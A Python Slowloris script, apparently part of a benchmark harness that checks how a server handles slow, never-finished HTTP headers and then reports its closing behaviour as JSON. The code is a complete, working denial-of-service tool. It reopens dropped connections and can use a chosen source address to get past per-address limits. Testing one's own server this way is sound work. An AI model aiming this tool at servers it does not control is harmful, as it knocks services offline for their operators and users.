#!/usr/bin/env python3
"""Slowloris for bench/abuse/run: N connections that each send an HTTP request one byte per
second and never finish its header; a connection the server closes is opened again.

    slowloris.py --host 127.0.0.1 --port P --connections N --seconds S --out FILE
                 [--source 127.0.0.3] [--ready FILE] [--interval 1.0] [--no-reopen]

Opens the N connections at once (from --source, so an address-based limit sees a caller of its
own) and writes --ready when all were tried (at most 5 s). Then every --interval seconds it
sends the next byte of "GET /healthz HTTP/1.1\\r\\nHost: …\\r\\nX-Slow-<i>: aaaa…" (the header
value never ends) on every open connection. A connection counts as closed by the server when a
read returns end-of-file or a reset, or a send fails; what the server wrote before closing (a 408,
say) is kept. Unless --no-reopen, each closed connection is replaced by a new one, as an attacker
would, so the server keeps meeting N slow connections. Stops after --seconds or on
SIGTERM/SIGINT, closes what is left and writes a JSON report to --out. Standard library only;
one thread, one selector.
"""
import argparse, errno, json, selectors, signal, socket, sys, time


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--connections", type=int, default=300)
    ap.add_argument("--seconds", type=float, default=60)
    ap.add_argument("--interval", type=float, default=1.0)
    ap.add_argument("--source", default="")
    ap.add_argument("--out", required=True)
    ap.add_argument("--ready", default="")
    ap.add_argument("--no-reopen", action="store_true")
    a = ap.parse_args()

    stop = {"flag": False}
    def on_signal(*_):
        stop["flag"] = True
    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGINT, on_signal)

    start = time.monotonic()
    def now():
        return time.monotonic() - start

    sel = selectors.DefaultSelector()
    conns = []            # every connection ever established
    connecting = {}       # socket -> (slot, started)
    connect_errors = {}
    prefix = f"GET /healthz HTTP/1.1\r\nHost: {a.host}:{a.port}\r\n".encode()
    serial = [0]

    def count_error(name):
        connect_errors[name] = connect_errors.get(name, 0) + 1

    def open_one(slot):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        s.setblocking(False)
        try:
            if a.source:
                s.bind((a.source, 0))
            rc = s.connect_ex((a.host, a.port))
        except OSError as e:
            rc = e.errno
        if rc not in (0, errno.EINPROGRESS):
            count_error(errno.errorcode.get(rc, str(rc)))
            s.close()
            return
        connecting[s] = (slot, now())
        sel.register(s, selectors.EVENT_WRITE, None)

    def established(s):
        slot, _ = connecting.pop(s)
        sel.unregister(s)
        err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        if err:
            count_error(errno.errorcode.get(err, str(err)))
            s.close()
            return
        serial[0] += 1
        c = {"slot": slot, "sock": s, "opened": now(), "sent": 0, "closed": None, "how": None, "answer": b"",
             "payload": prefix + f"X-Slow-{serial[0]}: ".encode()}
        conns.append(c)
        sel.register(s, selectors.EVENT_READ, c)

    def close(c, how):
        if c["closed"] is not None:
            return
        c["closed"] = now()
        c["how"] = how
        try:
            sel.unregister(c["sock"])
        except (KeyError, ValueError):
            pass
        c["sock"].close()
        if not a.no_reopen and how != "by us at the end" and not stop["flag"]:
            open_one(c["slot"])

    def give_up_slow_connects(limit):
        for s, (slot, started) in list(connecting.items()):
            if now() - started > limit:
                sel.unregister(s)
                del connecting[s]
                s.close()
                count_error(f"connect timeout ({limit:g} s)")

    def poll(timeout):
        for key, _ in sel.select(timeout=max(0.0, timeout)):
            s = key.fileobj
            if key.data is None:
                established(s)
                continue
            c = key.data
            try:
                data = s.recv(65536)
            except BlockingIOError:
                continue
            except OSError as e:
                close(c, "reset" if e.errno == errno.ECONNRESET else "recv " + errno.errorcode.get(e.errno, str(e.errno)))
                continue
            if not data:
                close(c, "eof")
            else:
                c["answer"] += data[:4096]

    for slot in range(a.connections):
        open_one(slot)
    ready_deadline = time.monotonic() + 5
    while connecting and time.monotonic() < ready_deadline and not stop["flag"]:
        poll(ready_deadline - time.monotonic())
    give_up_slow_connects(5)
    ready_at = now()
    first_wave = len(conns)
    if a.ready:
        with open(a.ready, "w") as f:
            f.write(f"{first_wave}\n")

    deadline = start + a.seconds
    next_tick = time.monotonic()
    while not stop["flag"] and time.monotonic() < deadline:
        if time.monotonic() >= next_tick:
            next_tick = time.monotonic() + a.interval
            give_up_slow_connects(5)
            for c in conns:
                if c["closed"] is not None:
                    continue
                p = c["payload"]
                byte = p[c["sent"]:c["sent"] + 1] if c["sent"] < len(p) else b"a"
                try:
                    c["sock"].send(byte)
                    c["sent"] += 1
                except BlockingIOError:
                    pass
                except OSError as e:
                    close(c, "send " + errno.errorcode.get(e.errno, str(e.errno)))
        wait = min(next_tick, deadline) - time.monotonic()
        if sel.get_map():
            poll(wait)
        else:
            time.sleep(max(0.0, wait))

    ended = now()
    stop["flag"] = True
    still_open = sum(1 for c in conns if c["closed"] is None)
    for c in conns:
        if c["closed"] is None:
            c["closed_by_us"] = True
            close(c, "by us at the end")
    for s in list(connecting):
        sel.unregister(s)
        s.close()

    closed = [c for c in conns if not c.get("closed_by_us")]
    lifetimes = sorted(c["closed"] - c["opened"] for c in closed)

    def pct(xs, p):
        if not xs:
            return None
        k = (len(xs) - 1) * p / 100.0
        f = int(k); g = min(f + 1, len(xs) - 1)
        return xs[f] + (xs[g] - xs[f]) * (k - f)

    answers, hows = {}, {}
    for c in closed:
        first = c["answer"].split(b"\r\n", 1)[0].decode("latin-1") if c["answer"] else ""
        parts = first.split(" ")
        status = parts[1] if first.startswith("HTTP/") and len(parts) > 1 else ("none" if not first else "other")
        answers[status] = answers.get(status, 0) + 1
        hows[c["how"]] = hows.get(c["how"], 0) + 1
    report = {
        "connections": a.connections, "reopen": not a.no_reopen, "interval_s": a.interval,
        "opened_first": first_wave, "opened_total": len(conns), "connect_errors": connect_errors,
        "all_tried_after_s": ready_at, "ran_s": ended,
        "closed_by_server": len(closed), "still_open_at_end": still_open,
        "closed_after_s": {"min": pct(lifetimes, 0), "p50": pct(lifetimes, 50), "max": pct(lifetimes, 100)},
        "close_kind": hows, "server_answer_before_close": answers,
        "answered_but_left_open": sum(1 for c in conns if c.get("closed_by_us") and c["answer"]),
        "bytes_sent": {"min": min((c["sent"] for c in conns), default=0), "max": max((c["sent"] for c in conns), default=0)},
        "first_close_at_s": min((c["closed"] for c in closed), default=None),
        "closed_at_s": [round(c["closed"], 1) for c in sorted(closed, key=lambda c: c["closed"])][:2000],
    }
    with open(a.out, "w") as f:
        json.dump(report, f, indent=1)


if __name__ == "__main__":
    sys.exit(main())
